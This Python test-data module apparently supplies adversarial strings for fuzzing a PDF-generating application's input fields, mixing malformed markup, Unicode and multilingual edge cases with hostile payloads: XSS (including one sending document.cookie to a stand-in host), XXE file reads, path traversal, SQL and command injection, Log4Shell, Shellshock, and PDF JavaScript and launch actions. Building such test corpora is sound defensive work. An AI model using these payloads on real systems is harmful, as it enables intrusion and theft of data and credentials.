"""Texts that a person, a risk file or somebody with bad intent may put into any field (SECURITY R25)."""

_MARKUP = [
    "<b>unclosed",
    "</b>",
    "<b><i>crossed</b></i>",
    "<para>inner</para>",
    "<para alignment='right'>x",
    "</para>",
    "<br/><br/><br/>",
    "<br",
    "<",
    ">",
    "<<>>",
    "a < b > c & d",
    "x<y",
    "1<2 and 3>2",
    "<font size='1'>tiny</font>",
    "<font name='NoSuchFace'>x</font>",
    "<font color='nothing'>x</font>",
    "<font size='900'>huge</font>",
    "<span style='x'>y</span>",
    "<super>up</super><sub>down</sub>",
    "<strike>gone</strike><u>under</u>",
    "<bullet>&bull;</bullet>text",
    "<seq id='x'/><seqreset id='x'/>",
    "<onDraw name='f' label='x'/>",
    "<index item='x'/>",
    "<unichar code='0x41'/>",
    "<unichar name='NO SUCH'/>",
    "<greek>a</greek>",
    "<ondraw name='evil'/>",
    "<setLink>",
    "<dynamic/>",
    "<script>alert(1)</script>",
    "<style>p{}</style>",
    "<!-- comment -->",
    "<!-- unclosed",
    "<![CDATA[ x ]]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;",
    "<?xml version='1.0'?>",
    "<?php echo 1 ?>",
    "<svg onload=x>",
    "<table><tr><td>1</td></tr></table>",
    "<evalString imports='os'>os.system('true')</evalString>",
]
_FILES = [
    f"<img {attribute}={quote}{target}{quote}{end}"
    for attribute in ("src", "SRC")
    for quote in ('"', "'")
    for target in (
        "/etc/hostname",
        "file:///etc/hostname",
        "../../etc/passwd",
        "//192.0.2.1/share/x.png",
        "http://192.0.2.1/x.png",
        "data:image/png;base64,AAAA",
        "C:\\Windows\\win.ini",
    )
    for end in ("/>", ">")
]
_LINKS = [
    f"<{tag} {attribute}='{target}'>press</{tag}>"
    for tag in ("a", "link", "A")
    for attribute in ("href", "destination", "name")
    for target in ("http://192.0.2.1/", "javascript:app.alert(1)", "#page1", "file:///etc/hostname")
]
_ENTITIES = [
    "&",
    "&&",
    "&amp;",
    "&amp;lt;b&amp;gt;",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&#x3c;img src='/etc/hostname'/&#x3e;",
    "&nbsp;&bull;&euro;",
    "&nosuch;",
    "&#0;",
    "&#xD800;",
    "&#99999999;",
    "&",
    "&#;",
    "&#x;",
    "R&D & A&E",
    "%s %d %(x)s {name} {0} {{x}}",
    "\\(paren\\) (unbalanced ((",
    ") Tj ET /Evil Do BT (",
    "endstream endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >>",
    "=HYPERLINK('http://192.0.2.1')",
    "'; DROP TABLE person; --",
    "${jndi:ldap://192.0.2.1/x}",
    "../../../etc/passwd",
]
_CONTROLS = [f"before{chr(code)}after" for code in (*range(32), *range(0x7F, 0xA0))]
_INVISIBLE = [
    f"pay {mark}tnuoma eht{mark} now"
    for mark in map(
        chr,
        (
            0x061C,
            0x200B,
            0x200C,
            0x200D,
            0x200E,
            0x200F,
            0x202A,
            0x202B,
            0x202C,
            0x202D,
            0x202E,
            0x2028,
            0x2029,
            0x2060,
            0x2066,
            0x2067,
            0x2068,
            0x2069,
            0xFEFF,
            0xFFF9,
            0xFFFE,
            0xFFFF,
            0xD800,
            0xDFFF,
            0xE000,
            0xF8FF,
            0x00AD,
            0xE0041,
            0x10FFFF,
        ),
    )
]
_SCRIPTS = [
    "Siân Llŷr o Dŷ Ŵyn yn y dŵr",
    "ŵ ŷ Ŵ Ŷ â ê î ô û ẃ ẁ ẅ ý ỳ ÿ",
    "w\u0302 y\u0302 W\u0302",
    "£12.50 • first – second — “quoted” ‘too’ … ½ °C ≥ ≤ ≠ → ✓ €",
    "Zażółć gęślą jaźń, Ðorđe, Žižek, İstanbul, ſ, ß, Ǆ",
    "Привет, Ђорђе",
    "Γειά σου",
    "আমি বাংলায় কথা বলি।",
    "ক্ষ ত্র জ্ঞ শ্রী ন্দ্র র্ক কি কী কু কৃ কে কৈ কো কৌ",
    "রহিমা বেগম (Rahima Begum), ৩ জন",
    "বাংলা→English☺মিশ্র",
    "্্্ াাা ়",
    "র\u200c্য র\u200d্য",
    "বাংলা" * 120,
    "<b>বাংলা",
    "أريد الذهاب إلى المسجد",
    "Ahmed (أحمد) 020 7946 0000",
    "לשלום",
    "नमस्ते",
    "ਸਤ ਸ੍ਰੀ ਅਕਾਲ",
    "வணக்கம்",
    "สวัสดี",
    "你好，世界",
    "こんにちは",
    "안녕하세요",
    "😀👍🏽👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿❤️",
    "Z̸̢̛͓a̷̧͝l̶̰̃g̴̣͝o̶̜͝",
    "a" + "\u0301" * 300,
    "𝒜𝓁𝒾𝒸𝑒 𝔅𝔬𝔟",
    "ﷺ﷽",
    "ª º ¹ ² ³ ¼ × ÷",
]
_SPACES = [
    "",
    " ",
    "\n",
    "\n\n\n\n",
    "\r\n\r\n",
    "\r",
    "\t\t",
    "\u00a0\u2003\u3000",
    "a\n\n\n\n\nb",
    "a\r\nb\rc\nd",
    "  leading and trailing  ",
    "a" + " " * 500 + "b",
    "\n".join(["line"] * 60),
    "\u00a0" * 500,
]
_LONG = [
    "W" * 800,
    "i" * 800,
    "<b>" * 300,
    "&" * 800,
    "-" * 800,
    "http://example.invalid/" + "path/" * 150,
    "word " * 300,
    "\u00a0x" * 300,
    "☺" * 800,
    "0" * 800,
    "020 7946 0000 " * 100,
    "a" * 59 + "&" * 3,
]

_REPORTLAB = [
    f"<{tag}{attributes}>inner</{tag}>"
    for tag in ("para", "font", "img", "a", "onDraw", "seq", "index", "bullet", "sup", "greek", "nobr", "name")
    for attributes in (
        "",
        " name='evil'",
        " src='file:///etc/hostname' width='9999' height='9999'",
        " href='javascript:app.alert(1)' color='red' backColor='yellow'",
        " size='900' face='Courier' leading='-9' spaceBefore='9999'",
    )
]
_STYLE = [
    "p { background: url(http://192.0.2.1/x.png) }",
    "@import url('http://192.0.2.1/x.css');",
    "@font-face { font-family: x; src: url(file:///etc/hostname) }",
    "<style>@page { size: 1cm }</style>",
    "<div style='position:absolute;left:-9999px'>gone</div>",
    "<span style=\"background:url('//192.0.2.1/')\">seen</span>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "expression(alert(1))",
    "-moz-binding:url(http://192.0.2.1/x.xml#a)",
    "</style><script>alert(1)</script>",
    "*{display:none !important}",
    "color:#ffffff;font-size:0",
]
_SCRIPT = [
    "<script src=http://192.0.2.1/x.js></script>",
    "<script>fetch('http://192.0.2.1/'+document.cookie)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src='file:///etc/hostname'></iframe>",
    "<embed src='x.swf'>",
    "<object data='x.pdf'></object>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<base href='http://192.0.2.1/'>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<form action=http://192.0.2.1/><button>press</button></form>",
    "<marquee>moving</marquee>",
    "javascript:this.exportDataObject({cName:'x'})",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "app.launchURL('http://192.0.2.1/')",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{% include '/etc/hostname' %}",
    "__import__('os').system('true')",
    "f\"{open('/etc/hostname').read()}\"",
    "`id` $(id) ; id | id && id",
    "() { :; }; echo vulnerable",
    "\\x3cscript\\x3e \\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
_XML = [
    "<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd'><x/>",
    "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>",
    "<!DOCTYPE x [<!ENTITY % p SYSTEM 'file:///etc/hostname'> %p;]>",
    "<!ENTITY x SYSTEM 'expect://id'>",
    "<xi:include href='file:///etc/hostname' parse='text'/>",
    "<?xml-stylesheet href='http://192.0.2.1/x.xsl'?>",
    "<x xmlns:y='http://192.0.2.1/'><y:z/></x>",
    "]]>",
    "]]>]]&gt;",
    "<![CDATA[<img src='/etc/hostname'/>]]>",
    "&lt;![CDATA[",
    "<a b=c d='e\" f>",
    "<" * 40 + ">" * 40,
    "</" * 20,
    "<a/><a/><a/>" * 5,
    "&lt;" * 50,
    "&amp;" * 50,
    "&#x26;#60;b&#x26;#62;",
    "&AMP;&LT;&GT;&QUOT;",
    "&apos;&quot;&amp;apos;",
]
_PDF = [
    "/Type /Annot /Subtype /Link /A << /S /URI /URI (http://192.0.2.1/) >>",
    "<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    "endobj 5 0 obj << /Launch (calc.exe) >> endobj",
    "xref 0 1 0000000000 65535 f trailer << /Root 1 0 R >> startxref 0 %%EOF",
    "%PDF-1.7 %\u00e2\u00e3\u00cf\u00d3",
    "BT /F1 12 Tf (evil) Tj ET",
    "q 1 0 0 1 0 0 cm /Im1 Do Q",
    "\\) Tj ET Q q BT (",
    "\\\\) \\\\\\) (((",
    "\\050 \\051 \\ddd \\n\\r",
    "<feff00410042>",
    "/EmbeddedFile /FileAttachment /RichMedia",
]
_WELSH = [
    "Dw i’n byw yn Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch gyda’m gŵr",
    "Mae’r tŷ ŵy dŵr gŵydd ŷd ŷnt yn y gŵn",
    "ẁ ẃ ẅ ŵ ỳ ý ÿ ŷ Ẁ Ẃ Ẅ Ŵ Ỳ Ý Ÿ Ŷ",
    "Gŵyl Ddewi — hoff fwyd: cawl â thatws",
    "W\u0302yn y\u0302d y\u0308 w\u0300",
    "ŴYN A ŶD: <b>tŷ</b> &amp; dŵr",
]
_BIDI = [
    "\u202eevil\u202c good",
    "price \u2067100\u2069 pounds",
    "\u200fשלום\u200f and more",
    "مرحبا 123 abc \u200e!",
    "file\u202egpj.exe",
    "a\u2066b\u2067c\u2068d\u2069e",
    "\u202a" * 70 + "deep" + "\u202c" * 70,
    "(\u202b)[\u202a]",
    "ab\u061ccd",
    "عبد الرحمن (Abdul) ٠٢٠ ٧٩٤٦",
    "١٢٣ ٤٥٦",
    "لا إله \u0640\u0640\u0640 تطويل",
]
_ZERO_WIDTH = [f"ze{mark}ro {mark}wi{mark}dth{mark}" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e"] + [
    "\u200b" * 500,
    "a\u200bb" * 100,
    "\ufeff<b>\ufeff",
    "i\u200dm\u200dg",
    "&\u200bamp;",
]
_HALVES = [
    "\ud83d alone",
    "alone \ude00",
    "\ude00\ud83d swapped",
    "\ud800\udfff",
    "tag <\udc80b>",
    "\udcff" * 40,
    "\ufffe \uffff \U0001ffff",
    "\ue000\uf8ff private",
    "\U000f0000 plane fifteen",
    "\U0010fffd last",
    "\u0378 unassigned",
]
_EMOJI = [
    "👍🏻👍🏼👍🏽👍🏾👍🏿",
    "👨‍👩‍👧‍👦 family 👩🏽‍⚕️ nurse",
    "🇬🇧🏴󠁧󠁢󠁷󠁬󠁳󠁿🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "1️⃣2️⃣#️⃣",
    "❤️ ☎️ ✓ ✔ ✗ ☑",
    "😀" * 300,
    "<b>😀</b>",
    "😀&amp;😀",
]
_BENGALI = [
    "আমি রবিবারে নাতি-নাতনিদের জন্য রান্না করতে চাই।",
    "জরুরি অবস্থায় ০২০ ৭৯৪৬ ০১৫৫ নম্বরে ফোন করুন",
    "ডাঃ রহমান, হাঁটু ও কোমর ব্যথা, ৯টি ওষুধ",
    "<i>শান্তি</i> &amp; সুখ",
    "স্ত্রী ক্ষুধা বিজ্ঞান উজ্জ্বল সংস্কৃত দুঃখ চাঁদ",
    "৳৫০০ = £3.50",
]
_NUL = [
    "\0",
    "\0\0\0\0",
    "before\0after",
    "<img src='/etc/host\0name'/>",
    "\0<b>",
    "&\0amp;",
    "a\0" * 200,
    "\x1b[31mred\x1b[0m",
    "\x08\x08\x08erased",
    "\x9b31m",
]

HUGE = ["x" * 100_000, "word " * 20_000, "<i>" * 3800, "বাংলা " * 16_000, "line\n" * 20_000]
"""100 kB each: for one field at a time."""

CORPUS = list(
    dict.fromkeys(
        (
            *_MARKUP, *_FILES, *_LINKS, *_ENTITIES, *_CONTROLS, *_INVISIBLE, *_SCRIPTS, *_SPACES, *_LONG, *_REPORTLAB,
            *_STYLE, *_SCRIPT, *_XML, *_PDF, *_WELSH, *_BIDI, *_ZERO_WIDTH, *_HALVES, *_EMOJI, *_BENGALI, *_NUL,
        )
    )
)  # fmt: skip
"""Each once."""
